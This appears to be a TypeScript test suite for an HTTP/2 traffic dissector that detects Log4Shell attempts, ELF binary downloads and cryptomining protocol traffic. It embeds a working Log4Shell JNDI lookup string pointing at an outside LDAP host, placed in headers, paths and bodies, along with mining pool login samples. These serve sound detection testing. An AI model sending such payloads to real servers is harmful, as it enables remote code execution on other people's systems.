import assert from 'node:assert/strict'
import { once } from 'node:events'
import { connect, createServer } from 'node:http2'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { h2 } from '../../../test/hpack.ts'
import { packed } from '../../../test/packets.ts'
import { listening, recordedTalk } from '../../../test/recorded-talk.ts'
import { rowsOfTalk, type Said } from '../../../test/wire.ts'
import { dissectors } from './index.ts'

const elf = packed('\x7fELF\x02\x01\x01', new Uint8Array(600))
const jndi = `\${jndi:ldap://198.51.100.9:1389/a}`
const ask = (extra: Readonly<Record<string, string>> = {}): Record<string, string> => ({
  ':method': 'GET',
  ':scheme': 'http',
  ':path': '/',
  ':authority': 'shop.example',
  ...extra,
})
const opening: Said[] = [
  [0, packed(h2.preface, h2.settings)],
  [1, packed(h2.settings, h2.ok)],
]
const bytewise = (said: readonly Said[]): Said[] =>
  said.flatMap(([from, what]) =>
    typeof what === 'number' ? [[from, what] as Said] : [...packed(what)].map((b): Said => [from, Uint8Array.of(b)]),
  )

describe('a real client and a real server', () => {
  test('an attack in a header, its answer, a program that is downloaded and a miner’s call, with tables and Huffman', async () => {
    const server = createServer((request, response) => {
      if (request.url === '/x') response.end(elf)
      else if (request.url === '/json_rpc') {
        request.resume()
        response.end(
          '{"id":1,"result":{"blocktemplate_blob":"00","blockhashing_blob":"00","height":3000000,"difficulty":1000,"seed_hash":"00"}}',
        )
      } else response.end('ok')
    })
    const said = await recordedTalk(await listening(server), async port => {
      const client = connect(`http://127.0.0.1:${port}`)
      const requests: (readonly [Record<string, string>, string])[] = [
        [{ ':path': '/login', 'user-agent': jndi }, ''],
        [{ ':path': '/x', 'user-agent': 'curl/8' }, ''],
        [{ ':path': '/x', 'user-agent': 'curl/8' }, ''],
        [
          { ':path': '/json_rpc', ':method': 'POST' },
          '{"id":1,"method":"getblocktemplate","params":{"wallet_address":"4","extra_nonce":"00"}}',
        ],
      ]
      for (const [headers, body] of requests) {
        const stream = client.request(headers, { endStream: false })
        stream.end(body)
        stream.resume()
        await once(stream, 'end')
      }
      client.close()
      await once(client, 'close')
      server.close()
    })
    for (const talk of [said, bytewise(said)]) {
      const rows = rowsOfTalk(dissectors, talk)
      const { exploits: [exploit] = [], downloads = [], stratum: [miner] = [] } = rows
      assert.deepEqual([exploit?.patch, exploit?.answer], ['log4shell', 'HTTP/2.0 200 ok'])
      assert.match(exploit?.target ?? '', /^GET http:\/\/127\.0\.0\.1:\d+\/login$/)
      assert.deepEqual(
        downloads.map(({ url, kind, whole, agent }) => [new URL(url).pathname, kind, whole, agent]),
        [
          ['/x', 'elf', true, 'curl/8'],
          ['/x', 'elf', true, 'curl/8'],
        ],
      )
      assert.equal(miner?.dialect, 'getblocktemplate')
    }
  })
})

describe('by hand', () => {
  test('an upgrade from HTTP/1: the answer on stream 1 is that of the request that asked for it', () => {
    const upgrade = `GET /?x=${jndi} HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`
    const { exploits = [] } = rowsOfTalk(dissectors, [
      [0, upgrade],
      [1, 'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n'],
      [1, packed(h2.settings, h2.headers(1, { ':status': '500' }, 4), h2.data(1, 'down'))],
      [0, packed(h2.preface, h2.settings, h2.headers(3, ask({ 'x-api': jndi })))],
      [1, h2.headers(3, { ':status': '404' })],
    ])
    assert.deepEqual(
      exploits.map(({ patch, answer }) => [patch, answer]),
      [
        ['log4shell', 'HTTP/2.0 500 down'],
        ['log4shell', 'HTTP/2.0 404'],
      ],
    )
  })

  test('streams that are mixed, padding, priority, continuations, trailers, a push, an interim answer', () => {
    const fields = h2.headers(5, ask({ ':path': '/b', 'x-long': 'y'.repeat(100), 'user-agent': jndi }), 1).subarray(9)
    const cut = (from: number, to: number): Uint8Array => fields.subarray(from, to)
    const frame = (type: number, flags: number, stream: number, body: Uint8Array): Uint8Array =>
      packed([0, 0, body.length, type, flags, 0, 0, 0, stream], body)
    const { exploits = [], downloads = [] } = rowsOfTalk(dissectors, [
      ...opening,
      [0, packed(h2.headers(3, ask({ ':method': 'POST', ':path': '/a' }), 4), h2.data(3, 'one', 0))],
      [0, frame(1, 0x29, 5, packed([2, 0, 0, 0, 0, 9], cut(0, 20), [0, 0]))],
      [0, packed(frame(9, 0, 5, cut(20, 60)), frame(9, 4, 5, cut(60, fields.length)))],
      [0, packed(h2.data(3, `two ${jndi}`, 0), h2.headers(3, { 'x-trailer': '1' }))],
      [1, packed(h2.headers(3, { ':status': '103' }, 4), h2.headers(3, { ':status': '200' }, 4))],
      [1, frame(5, 4, 3, packed([0, 0, 0, 2], h2.headers(2, ask({ ':path': '/pushed' })).subarray(9)))],
      [1, packed(h2.headers(2, { ':status': '200' }, 4), h2.data(2, elf))],
      [1, packed(h2.data(3, 'fine'), h2.headers(5, { ':status': '403' }))],
    ])
    assert.deepEqual(exploits.map(({ target, answer }) => [target, answer]).sort(), [
      ['GET http://shop.example/b', 'HTTP/2.0 403'],
      ['POST http://shop.example/a', 'HTTP/2.0 200 fine'],
    ])
    assert.deepEqual(
      downloads.map(({ url }) => url),
      ['http://shop.example/pushed'],
    )
  })

  test('a WebSocket over HTTP/2 and CONNECT are followed to what is in them', () => {
    const login =
      '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}\n{"id":2,"method":"mining.authorize","params":["u.w","x"]}\n'
    const { stratum: [row] = [] } = rowsOfTalk(dissectors, [
      ...opening,
      [0, h2.headers(1, { ':method': 'CONNECT', ':authority': 'pool.example:3333' }, 4)],
      [1, h2.headers(1, { ':status': '200' }, 4)],
      [0, h2.data(1, login, 0)],
      [1, h2.data(1, '{"id":1,"result":[[],"00",4],"error":null}\n{"id":2,"result":true,"error":null}\n', 0)],
    ])
    assert.deepEqual([row?.via, row?.login], [['connect pool.example:3333'], 'u.w'])
  })

  test('the client is who says the preface, whoever was taken for it', () => {
    const said: Said[] = [...opening, [0, h2.headers(1, ask({ 'user-agent': jndi }))], [1, h2.headers(1, { ':status': '404' })]]
    const turned = said.map(([from, what]): Said => [from === 0 ? 1 : 0, what])
    const { exploits: [row] = [] } = rowsOfTalk(dissectors, turned, { midstream: true })
    assert.deepEqual([row?.client.address, row?.answer], ['198.51.100.1', 'HTTP/2.0 404'])
  })
})

describe('near miss', () => {
  test('ordinary requests, gRPC among them, say nothing; packed messages are told', () => {
    const gaps: string[] = []
    const grpc = { ':method': 'POST', ':path': '/runtime.v1.RuntimeService/Version', 'content-type': 'application/grpc', te: 'trailers' }
    const message = packed([0, 0, 0, 0, 5], '\x0a\x03abc')
    const rows = rowsOfTalk(
      dissectors,
      [
        ...opening,
        [0, packed(h2.headers(1, ask(grpc), 4), h2.data(1, message))],
        [1, packed(h2.headers(1, { ':status': '200', 'content-type': 'application/grpc' }, 4), h2.data(1, message, 0))],
        [1, h2.headers(1, { 'grpc-status': '0' })],
        [0, packed(h2.headers(3, ask({ ...grpc, 'grpc-encoding': 'gzip' }), 4), h2.data(3, message))],
      ],
      { gap: (why, detail) => void gaps.push(`${why} ${detail}`) },
    )
    assert.deepEqual([rows, gaps], [{}, ['unsupported packed messages of gRPC']])
  })

  test('floods: continuations without an end, a table beyond all bounds, streams that nobody closes', () => {
    const floods: (readonly [string, readonly Uint8Array[]])[] = [
      [
        'a header block beyond 64 KiB',
        [h2.headers(1, ask(), 0), ...Array.from({ length: 100 }, () => packed([0, 0, 0, 9, 0, 0, 0, 0, 1]))],
      ],
      [
        'a header block beyond 64 KiB',
        [h2.headers(1, ask(), 0), ...Array.from({ length: 9 }, () => packed([0, 0x20, 0, 9, 0, 0, 0, 0, 1], new Uint8Array(0x2000)))],
      ],
      ['header fields that cannot be unpacked', [packed([0, 0, 4, 1, 5, 0, 0, 0, 1, 0x3f, 0xe1, 0xff, 3])]],
      ['too many streams at once', Array.from({ length: 300 }, (_, i) => h2.headers(2 * i + 1, ask()))],
    ]
    for (const [expected, frames] of floods) {
      const gaps: string[] = []
      rowsOfTalk(dissectors, [...opening, ...frames.map((f): Said => [0, f])], { gap: (_, detail) => void gaps.push(detail) })
      assert.ok(gaps.includes(expected), `${expected}: ${gaps}`)
    }
  })

  test('other protocols that begin with the same bytes', () => {
    for (const first of [
      'PRIVMSG x\r\n',
      'PRI * HTTP/1.1\r\n\r\n',
      '\x00\x00\x06\x04\x01\x00\x00\x00\x00\x00\x03\x00\x00\x00\x64',
      '\x00\x00\x00\x04',
    ])
      assert.deepEqual(rowsOfTalk(dissectors, [[0, first]]), {})
  })

  test('lost bytes within a body do no harm, elsewhere they end it', () => {
    const part = h2.data(1, elf).subarray(0, 100)
    const rest = h2.data(1, elf).subarray(200)
    const talk = (lost: Said[]): number =>
      rowsOfTalk(dissectors, [...opening, [0, h2.headers(1, ask({ ':path': '/x' }))], [1, h2.headers(1, { ':status': '200' }, 4)], ...lost])
        .downloads?.length ?? 0
    const lossy: Said[] = [
      [1, part],
      [1, 100],
      [1, rest],
    ]
    assert.deepEqual([talk(lossy), talk([[1, 20], ...lossy])], [1, 0])
  })
})

test('any frames: no exception, no row of nonsense', () => {
  const frame = fc
    .tuple(fc.nat({ max: 10 }), fc.nat({ max: 63 }), fc.nat({ max: 9 }), fc.uint8Array({ maxLength: 60 }))
    .map(([type, flags, stream, body]) => packed([0, 0, body.length, type, flags, 0, 0, 0, stream], body))
  fc.assert(
    fc.property(
      fc.array(fc.tuple(fc.constantFrom(0 as const, 1 as const), fc.oneof(frame, fc.uint8Array({ maxLength: 40 }))), { maxLength: 30 }),
      said => void rowsOfTalk(dissectors, [...opening, ...said.map(([from, bytes]): Said => [from, bytes])]),
    ),
  )
})

test('mining with a node of Kaspa over gRPC; near miss: another method', () => {
  const address = 'kaspa:qpauqsvk7yf9unexwmxsnmg547mhyga37csh0kj53q6xxgl24ydxjsgzthw5j'
  const grpc = (...message: readonly (string | readonly number[])[]) => {
    const body = packed(...message)
    return packed([0, 0, 0, 0, body.length], body)
  }
  const talk = (path: string): Said[] => [
    ...opening,
    [0, packed(h2.headers(1, ask({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc' }), 4))],
    [0, packed(h2.data(1, grpc([0xea, 0x3e, address.length + 2, 0x0a, address.length], address), 0))],
    [1, packed(h2.headers(1, { ':status': '200', 'content-type': 'application/grpc' }, 4), h2.data(1, grpc([0xf2, 0x3e, 2, 0x10, 1]), 0))],
    [0, packed(h2.data(1, grpc([0xda, 0x3e, 0]), 0))],
    [1, packed(h2.data(1, grpc([0xe2, 0x3e, 0]), 0))],
  ]
  for (const said of [talk('/protowire.RPC/MessageStream'), bytewise(talk('/protowire.RPC/MessageStream'))]) {
    const [row] = rowsOfTalk(dissectors, said).stratum ?? []
    assert.deepEqual([row?.dialect, row?.coin, row?.wallets], ['getblocktemplate', 'KAS', [address]])
    assert.deepEqual([row?.jobs, row?.submitted, row?.accepted], [1, 1, 1])
  }
  assert.equal(rowsOfTalk(dissectors, talk('/protowire.P2P/MessageStream')).stratum, undefined)
})
